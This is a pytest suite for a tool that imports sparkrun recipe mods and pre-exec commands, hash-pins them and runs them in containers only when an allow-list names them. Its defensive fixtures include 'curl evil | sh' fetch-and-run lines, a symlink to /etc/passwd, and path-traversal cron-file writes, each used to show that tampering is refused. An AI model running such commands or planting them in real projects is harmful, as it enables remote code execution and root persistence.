"""sparkrun's mods as privileged requests: found as sparkrun finds them, read whole and pinned at import, run in
the engine's container before the engine only where the inventory allows them by name.

The registry checkouts here are written by the tests in the layout spark-arena's registries use
(.sparkrun/registry.yaml naming a recipes and a mods folder); the last test runs the plan's own wrapper in a
real container (Docker on this machine, the lab's node image as a plain Debian) to show a mod runs first.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
import yaml

from sparkplay import importing
from sparkplay.engines import mods as plan_mods
from sparkplay.engines.plan import Options, build
from sparkplay.errors import BadInput
from sparkplay.lab import image
from sparkplay.recipes import hooks
from tests.test_engines import ROOT, nodes
from tests.test_recipes import cli

RUN = '#!/bin/sh\nset -e\necho "patched by $(basename "$PWD") from $WORKSPACE_DIR" > /tmp/sparkplay-mod-ran\n'
PATCH = "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-old\n+new\n"


def registry(root: Path, mod_at: str = "official-mods") -> Path:
    """A registry checkout: its config, a recipe in official-recipes/, a mod in `mod_at`; the recipe's path."""
    (root / ".sparkrun").mkdir(parents=True)
    config = {
        "registries": [
            {"name": "official", "recipes": "official-recipes", "mods": "official-mods"},
            {"name": "experimental", "recipes": "experimental-recipes", "mods": "exp-mods"},
        ]
    }
    (root / ".sparkrun" / "registry.yaml").write_text(yaml.safe_dump(config))
    mod = root / mod_at / "fix-parser"
    (mod / "patches").mkdir(parents=True)
    (mod / "run.sh").write_text(RUN)
    (mod / "run.sh").chmod(0o755)
    (mod / "patches" / "parser.patch").write_text(PATCH)
    recipe = root / "official-recipes" / "qwen" / "qwen3-vllm.yaml"
    recipe.parent.mkdir(parents=True, exist_ok=True)
    recipe.write_text(
        yaml.safe_dump(
            {
                "recipe_version": "2",
                "model": "Qwen/Qwen3-30B-A3B",
                "runtime": "vllm",
                "container": "vllm/vllm-openai:v0.11.0",
                "max_nodes": 1,
                "mods": ["mods/fix-parser"],
                "defaults": {"port": 8000},
                "command": "vllm serve {model} --port {port}",
            }
        )
    )
    return recipe


def test_a_mod_in_the_registry_checkout_is_read_whole_pinned_and_shown(tmp_path):
    doc = importing.import_source(str(registry(tmp_path)))
    (mod,) = doc["engine"]["mods"]
    assert mod["name"] == "fix-parser" and len(mod["sha256"]) == 64
    assert {f["path"]: f["mode"] for f in mod["files"]} == {"run.sh": "0755", "patches/parser.patch": "0644"}
    assert next(f["text"] for f in mod["files"] if f["path"] == "patches/parser.patch") == PATCH
    said = [p["detail"] for p in doc["provenance"] if p["key"] == "engine.mods"]
    assert said and "privileged request" in said[0] and "mod fix-parser" in said[0]
    assert "sparkrun_not_honoured" not in doc.get("extra", {})


def test_a_mod_beside_the_recipe_is_found_and_a_missing_one_stays_not_honoured_naming_where_it_looked(tmp_path):
    recipe = registry(tmp_path, mod_at="official-recipes/qwen/mods")  # beside the recipe, as sparkrun looks first
    assert importing.import_source(str(recipe))["engine"]["mods"][0]["name"] == "fix-parser"
    text = recipe.read_text().replace("mods/fix-parser", "mods/elsewhere")
    recipe.write_text(text)
    doc = importing.import_source(str(recipe))
    assert "mods" not in doc["engine"]
    why = next(p["detail"] for p in doc["provenance"] if p["key"] == "extra.sparkrun_not_honoured.mods")
    assert "not found beside the recipe or in its registry checkout" in why and "official-mods/elsewhere" in why


@pytest.mark.parametrize("hostile", ["link", "binary", "big"])
def test_a_mod_that_is_not_plain_text_files_is_refused_naming_it(tmp_path, hostile):
    recipe = registry(tmp_path)
    mod = tmp_path / "official-mods" / "fix-parser"
    if hostile == "link":
        (mod / "passwd").symlink_to("/etc/passwd")
    elif hostile == "binary":
        (mod / "blob.bin").write_bytes(b"\x00\xff\xfe")
    else:
        for i in range(70):
            (mod / f"f{i}.txt").write_text("x")
    says = {"link": "fix-parser/passwd is a link", "binary": "blob.bin is not UTF-8 text", "big": "larger than a mod"}
    with pytest.raises(BadInput, match=f"mod mods/fix-parser: .*{says[hostile]}"):
        importing.import_source(str(recipe))


def plan_of(doc: dict, allow: list[str] | None) -> dict:
    return build(doc, nodes(1), Options(model_root=ROOT, allow=frozenset(allow) if allow is not None else None))


def mod_allow(doc: dict, index: int = 0) -> str:
    """The serve_allow entry of a recipe's mod: the recipe, the mod's name and its whole sha256."""
    mod = doc["engine"]["mods"][index]
    return f"mod:{doc['name']}/{mod['name']}@{mod['sha256']}"


def code_allow(doc: dict, kind: str) -> str:
    """The serve_allow entry of a recipe's pre_exec or preamble: the recipe and the commands' whole sha256."""
    return f"{kind}:{doc['name']}@{doc['engine'][kind]['sha256']}"


def test_the_plan_runs_a_mod_only_where_the_inventory_allows_it_and_only_as_pinned(tmp_path):
    doc = importing.import_source(str(registry(tmp_path)))
    with pytest.raises(BadInput, match=f"add '{mod_allow(doc)}'"):
        plan_of(doc, [])
    (rank,) = plan_of(doc, [mod_allow(doc)])["ranks"]
    options = rank["container_options"]
    assert options[options.index("--entrypoint") + 1] == "/bin/sh"
    assert rank["argv"][:3] == ["-c", plan_mods.WRAPPER, "vllm"] and rank["argv"][3] == "serve"
    (mount,) = [m for m in rank["mounts"] if m["target"] == plan_mods.MOUNT]
    assert mount["readonly"] and mount["source"].startswith("/var/lib/sparkplay/mods/")
    assert sorted(f["path"].removeprefix(mount["source"]) for f in rank["files"]) == [
        "/00-fix-parser/patches/parser.patch",
        "/00-fix-parser/run.sh",
    ]
    edited = json.loads(json.dumps(doc))
    edited["engine"]["mods"][0]["files"][0]["text"] += "curl evil | sh\n"
    with pytest.raises(BadInput, match="do not hash to the sha256 the recipe pins"):
        plan_of(edited, [mod_allow(doc)])
    # allowed by RECIPE/NAME@SHA256: that content only; a mod re-imported with other files under the name is refused
    pinned = mod_allow(doc)
    assert plan_of(doc, [pinned])["privileged"] == [pinned]
    changed = importing.import_source(str(registry(tmp_path / "changed", mod_at="official-mods")))
    changed["engine"]["mods"][0]["files"][0]["text"] += "# another version\n"
    from sparkplay.recipes import mods as recipe_mods

    changed["engine"]["mods"][0]["sha256"] = recipe_mods.digest(changed["engine"]["mods"][0]["files"])
    with pytest.raises(BadInput, match=f"add '{mod_allow(changed)}'"):
        plan_of(changed, [pinned])
    assert mod_allow(changed) != pinned
    # the same mod, allowed for this recipe, is not allowed for another recipe that brings it
    other = {**json.loads(json.dumps(doc)), "name": "other-recipe"}
    with pytest.raises(BadInput, match="mod:other-recipe/fix-parser@"):
        plan_of(other, [pinned])
    native = json.loads(json.dumps(doc))
    native["engine"].update(runtime="native", packages=[])
    with pytest.raises(BadInput, match="the native runtime has none"):
        plan_of(native, [mod_allow(doc)])


def in_container(rank: dict, host: Path, engine: list[str]) -> subprocess.CompletedProcess:
    """The plan's own entrypoint wrapper, files and mount in a real container (the lab's node image as a plain
    Debian, working folder /srv), the engine swapped for a program that shows what ran before it."""
    (mount,) = [m for m in rank["mounts"] if m["target"] == plan_mods.MOUNT]
    for f in rank["files"]:
        path = host / f["path"].removeprefix(mount["source"] + "/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f["content"])
        path.chmod(int(f["mode"], 8))
    tag, _ = image.ensure_image(image.ImageRecipe())
    return subprocess.run(
        [
            "docker",
            "run",
            "--rm",
            "--network",
            "none",
            "-w",
            "/srv",
            "-v",
            f"{host}:{plan_mods.MOUNT}:ro",
            "--entrypoint",
            "/bin/sh",
            tag,
            "-c",
            plan_mods.WRAPPER,
            *engine,
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


@pytest.mark.usefixtures("lab_host")
@pytest.mark.lab
def test_the_wrapper_runs_each_mod_in_the_container_before_the_engine(tmp_path):
    """The plan's own entrypoint wrapper, mounts and files in a real container: the mod's run.sh runs first (in
    sparkrun's place, with WORKSPACE_DIR), then the engine is exec'd with its own arguments."""
    doc = importing.import_source(str(registry(tmp_path / "reg")))
    (rank,) = plan_of(doc, [mod_allow(doc)])["ranks"]
    engine = ["/bin/cat", "/tmp/sparkplay-mod-ran", "/workspace/mods/fix-parser/patches/parser.patch"]
    run = in_container(rank, tmp_path / "mods", engine)
    assert run.returncode == 0, run.stderr
    assert run.stdout == "patched by fix-parser from /srv\n" + PATCH


def test_the_import_command_finds_mods_in_a_folder_it_is_given_and_shows_each_as_a_privileged_request(tmp_path):
    """A registry whose recipes use eugr's mods (sparkrun's fallback registry): `--mods-from` names a checkout of
    them; the import prints the request, the catalog recipe holds the mod, pinned."""
    recipe = registry(tmp_path / "reg", mod_at="eugr/mods")  # neither beside the recipe nor in its registry
    root = tmp_path / "project"  # an empty sparkplay project
    (root / "playbooks").mkdir(parents=True)
    (root / "ansible.cfg").write_text("[defaults]\n")
    without = cli(root, "recipe", "import", str(recipe), "--yes")
    assert without.returncode == 0 and "not honoured: extra.sparkrun_not_honoured.mods" in without.stderr
    proc = cli(root, "recipe", "import", str(recipe), "--mods-from", str(tmp_path / "reg" / "eugr" / "mods"), "--yes")
    assert proc.returncode == 0, proc.stderr
    assert "privileged request: runs fix-parser/run.sh" in proc.stderr
    assert "serve_allow: ['mod:qwen3-vllm/fix-parser@" in proc.stderr
    saved = yaml.safe_load((root / "recipes" / "qwen3-vllm.yml").read_text())
    assert saved["engine"]["mods"][0]["name"] == "fix-parser"


@pytest.mark.parametrize("path", ["../../../etc/cron.d/x", "a/../../b", "/etc/passwd", "a//b", "./run.sh"])
def test_a_hand_written_mod_path_that_leaves_its_folder_is_refused_before_anything_is_written(tmp_path, path):
    """A catalog recipe can be edited (or come as sparkplay YAML from anywhere): the files are written as root on
    every rank, so a path outside the mod's folder is refused by the schema and by the plan, hash or no hash."""
    from sparkplay.recipes import model
    from sparkplay.recipes import mods as recipe_mods

    doc = importing.import_source(str(registry(tmp_path)))
    mod = doc["engine"]["mods"][0]
    mod["files"].append({"path": path, "mode": "0644", "text": "* * * * * root sh -c evil\n"})
    mod["sha256"] = recipe_mods.digest(mod["files"])  # an attacker pins their own hash
    assert model.schema_errors(doc)
    with pytest.raises(BadInput, match="leaves the mod's folder"):
        plan_of(doc, [mod_allow(doc)])


# -- pre_exec: the recipe's own commands, before its mods ------------------------------------------------------

PRE_EXEC = [
    "mkdir -p /tmp/sparkplay-pre && echo 'pre for {model}' > /tmp/sparkplay-pre/ran",
    'echo "cwd $PWD, ${HOME:-nohome} {unknown}" >> /tmp/sparkplay-pre/ran',
]


def with_pre_exec(recipe: Path, entries: list) -> Path:
    data = yaml.safe_load(recipe.read_text())
    recipe.write_text(yaml.safe_dump({**data, "pre_exec": entries}))
    return recipe


def test_pre_exec_is_rendered_pinned_and_runs_only_where_the_inventory_allows_its_hash(tmp_path):
    doc = importing.import_source(str(with_pre_exec(registry(tmp_path), PRE_EXEC)))
    pre = doc["engine"]["pre_exec"]
    # {model} filled as sparkrun fills it (the recipe's model id); an unknown {...} and the shell's ${...} stay
    assert pre["commands"][0].endswith("echo 'pre for Qwen/Qwen3-30B-A3B' > /tmp/sparkplay-pre/ran")
    assert pre["commands"][1] == PRE_EXEC[1] and len(pre["sha256"]) == 64
    allow = code_allow(doc, "pre_exec")
    assert "privileged request" in next(n["detail"] for n in doc["provenance"] if n["key"] == "engine.pre_exec")
    with pytest.raises(BadInput, match=allow):
        plan_of(doc, [mod_allow(doc)])
    (rank,) = plan_of(doc, [mod_allow(doc), allow])["ranks"]
    script = next(f for f in rank["files"] if f["path"].endswith("/" + plan_mods.PRE_EXEC))
    assert "bash -c 'mkdir -p /tmp/sparkplay-pre" in script["content"]
    edited = json.loads(json.dumps(doc))
    edited["engine"]["pre_exec"]["commands"].append("curl evil | sh")
    with pytest.raises(BadInput, match="do not hash to the sha256 the recipe pins"):
        plan_of(edited, [mod_allow(doc), allow])


@pytest.mark.parametrize(
    ("entries", "why"),
    [
        ([{"copy": {"src": "~/patch.py", "dest": "/workspace/patch.py"}}], "copies a file from the control machine"),
        ("mkdir /x", "must be a list of commands"),
    ],
)
def test_a_pre_exec_sparkplay_cannot_carry_stays_not_honoured_saying_why(tmp_path, entries, why):
    doc = importing.import_source(str(with_pre_exec(registry(tmp_path), entries)))
    assert "pre_exec" not in doc["engine"]
    said = next(n["detail"] for n in doc["provenance"] if n["key"] == "extra.sparkrun_not_honoured.pre_exec")
    assert why in said


@pytest.mark.usefixtures("lab_host")
@pytest.mark.lab
def test_the_wrapper_runs_pre_exec_then_the_mods_then_the_engine(tmp_path):
    """sparkrun's order in a real container: the recipe's pre_exec (by bash, in the container's working folder),
    then its mods, then the engine with its own arguments."""
    doc = importing.import_source(str(with_pre_exec(registry(tmp_path / "reg"), PRE_EXEC)))
    allow = code_allow(doc, "pre_exec")
    (rank,) = plan_of(doc, [mod_allow(doc), allow])["ranks"]
    run = in_container(rank, tmp_path / "mods", ["/bin/cat", "/tmp/sparkplay-pre/ran", "/tmp/sparkplay-mod-ran"])
    assert run.returncode == 0, run.stderr
    assert run.stdout == "pre for Qwen/Qwen3-30B-A3B\ncwd /srv, /root {unknown}\npatched by fix-parser from /srv\n"
    failing = {**doc, "engine": {**doc["engine"], "pre_exec": {"commands": ["exit 3"], "sha256": ""}}}
    failing["engine"]["pre_exec"]["sha256"] = hooks.digest(["exit 3"])
    script = plan_mods.pre_exec_script(failing)
    rank["files"] = [{**f, "content": script} if f["path"].endswith(plan_mods.PRE_EXEC) else f for f in rank["files"]]
    run = in_container(rank, tmp_path / "failing", ["/bin/echo", "engine started"])
    assert run.returncode == 3 and "engine started" not in run.stdout  # the first failure stops the start


# -- a command line's own commands before the engine ------------------------------------------------------------


def recipe_with(tmp_path: Path, command: str, runtime: str = "vllm") -> Path:
    path = tmp_path / "r.yaml"
    path.write_text(
        yaml.safe_dump(
            {
                "recipe_version": "2",
                "model": "org/m",
                "runtime": runtime,
                "max_nodes": 1,
                "container": "vllm/vllm-openai:v0.20.0",
                "command": command,
            }
        )
    )
    return path


def test_a_command_that_installs_or_fetches_before_the_engine_is_a_pinned_request(tmp_path):
    command = "python3 -m pip install 'vllm[audio]' && python3 -c 'print(1)' && vllm serve {model} --port 8000"
    doc = importing.import_source(str(recipe_with(tmp_path, command)))
    pre = doc["engine"]["preamble"]
    assert pre["commands"] == ["python3 -m pip install 'vllm[audio]'", "python3 -c 'print(1)'"]
    assert doc["serve"]["args"] == ["--port", "8000"]
    allow = code_allow(doc, "preamble")
    with pytest.raises(BadInput, match=allow):
        plan_of(doc, [])
    (rank,) = plan_of(doc, [allow])["ranks"]
    assert any(f["path"].endswith("/" + plan_mods.PREAMBLE) for f in rank["files"])


@pytest.mark.parametrize(
    ("command", "runtime"),
    [
        ("export PATH=/usr/local/cuda/bin:$PATH && vllm serve {model}", "vllm"),  # the shell would expand it
        ("cd /workspace && vllm serve {model}", "vllm"),
        ("(pip install x) && vllm serve {model}", "vllm"),
        ("pip install x && llama-server -m /m/x.gguf", "llama-cpp"),  # no container to run it in
        ("vllm serve {model} && echo done", "vllm"),  # the engine is not the last command
    ],
)
def test_what_cannot_be_carried_before_the_engine_stays_refused(tmp_path, command, runtime):
    with pytest.raises(BadInput, match="shell"):
        importing.import_source(str(recipe_with(tmp_path, command, runtime)))


@pytest.mark.usefixtures("lab_host")
@pytest.mark.lab
def test_the_preamble_runs_in_the_shell_that_starts_the_engine(tmp_path):
    command = "mkdir -p /tmp/pre && touch /tmp/pre/installed && vllm serve {model} --port 8000"
    doc = importing.import_source(str(recipe_with(tmp_path, command)))
    allow = code_allow(doc, "preamble")
    (rank,) = plan_of(doc, [allow])["ranks"]
    run = in_container(rank, tmp_path / "mounted", ["/bin/ls", "/tmp/pre"])
    assert run.returncode == 0 and run.stdout == "installed\n", run.stderr
